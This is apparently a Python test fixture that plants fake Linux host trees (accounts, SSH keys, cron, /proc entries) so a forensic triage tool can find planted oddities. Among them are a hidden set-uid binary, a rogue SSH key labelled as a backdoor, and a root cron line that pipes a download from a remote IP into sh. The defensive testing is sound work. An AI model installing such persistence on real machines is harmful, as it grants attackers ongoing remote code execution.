"""Planted host file trees: what the triage collectors read under `POPCORN_TRIAGE_ROOT`.

One machine can run many real Bolt agents, each over its own tree, to play a fleet: the
tests do, and so does `popcorn demo`. Every host is noisy the way real ones are (its own
PID, socket inodes, an ephemeral port, its name in a key comment and a command line);
a few planted oddities (an extra set-uid binary, a rogue authorized key, a cron entry
nobody else has) are what triage should find.
"""

from __future__ import annotations

import os
from pathlib import Path

ROGUE_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHJvZ3VlLWtleS1mb3ItdHJpYWdlLXRlc3RzLW9ubHk= backdoor@evil"
)
DEPLOY_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGRlcGxveS1rZXktZm9yLXRyaWFnZS10ZXN0cy0wMQ=="
ROGUE_CRON = "*/5 * * * * root curl -s http://203.0.113.9/x | sh"


def _write(root: Path, path: str, text: str | bytes, mode: int | None = None) -> Path:
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        target.write_bytes(text)
    else:
        target.write_text(text)
    if mode is not None:
        os.chmod(target, mode)
    return target


def plant(root: Path, name: str, index: int, *, suid: bool = False, rogue_key: bool = False,
          cron: bool = False) -> Path:  # fmt: skip
    """A small host: accounts, keys, cron, a timer, packages, modules, binaries and one
    process listening on :80 (its PID, socket inode and an ephemeral port differ per host)."""
    passwd = [
        "root:x:0:0:root:/root:/bin/bash",
        "deploy:x:1000:1000::/home/deploy:/bin/bash",
        "www-data:x:33:33::/var/www:/usr/sbin/nologin",
    ]
    _write(root, "/etc/passwd", "\n".join(passwd) + "\n")
    _write(root, "/etc/group", "root:x:0:\nsudo:x:27:deploy\nwww-data:x:33:\n")
    _write(root, "/home/deploy/.ssh/authorized_keys", f"{DEPLOY_KEY} deploy@{name}\n")
    keys = f"{DEPLOY_KEY} deploy@{name}\n" + (ROGUE_KEY + "\n" if rogue_key else "")
    _write(root, "/root/.ssh/authorized_keys", keys)
    _write(
        root, "/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"
    )
    _write(
        root, "/etc/cron.d/logrotate", "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n"
    )
    if cron:
        _write(root, "/etc/cron.d/sync", ROGUE_CRON + "\n")
    _write(root, "/lib/systemd/system/apt-daily.timer",
           "[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\n")  # fmt: skip
    _write(root, "/proc/modules", "ext4 1081344 2 - Live 0x0000000000000000\n"
           "nf_tables 372736 0 - Live 0x0000000000000000\n")  # fmt: skip
    _write(root, "/var/lib/dpkg/status", "Package: nginx\nStatus: install ok installed\n"
           "Version: 1.24.0-2\nArchitecture: amd64\n\nPackage: openssh-server\n"
           "Status: install ok installed\nVersion: 1:9.6p1-3\nArchitecture: amd64\n")  # fmt: skip
    _write(root, "/usr/bin/sudo", b"\x7fELF sudo", 0o4755)
    _write(root, "/usr/bin/passwd", b"\x7fELF passwd", 0o4755)
    _write(root, "/usr/bin/ls", b"\x7fELF ls", 0o755)
    nginx = _write(root, "/usr/sbin/nginx", b"\x7fELF nginx", 0o755)
    if suid:
        _write(root, "/usr/local/bin/.cache-helper", b"\x7fELF helper", 0o4755)
    pid, inode = 1000 + index * 7, 40000 + index * 13
    _write(root, f"/proc/{pid}/stat", f"{pid} (nginx) S 1 {pid} {pid} 0 -1 0 0 0\n")
    _write(root, f"/proc/{pid}/status", "Name:\tnginx\nUid:\t33\t33\t33\t33\n")
    _write(root, f"/proc/{pid}/cmdline", f"nginx: master process -g daemon off; # {name}\0")
    os.symlink(nginx, root / f"proc/{pid}/exe")
    (root / f"proc/{pid}/fd").mkdir()
    os.symlink(f"socket:[{inode}]", root / f"proc/{pid}/fd/3")
    os.symlink(f"socket:[{inode + 1}]", root / f"proc/{pid}/fd/4")
    lines = ["  sl  local_address rem_address   st tx_queue rx_queue tr tm->when uid inode"]
    for slot, (address, sock) in enumerate(
        [("00000000:0050", inode), (f"0100007F:{33000 + index:04X}", inode + 1)]
    ):
        lines.append(f"{slot}: {address} 00000000:0000 0A 0:0 00:0 0 33 0 {sock} 1")
    _write(root, "/proc/net/tcp", "\n".join(lines) + "\n")
    return root
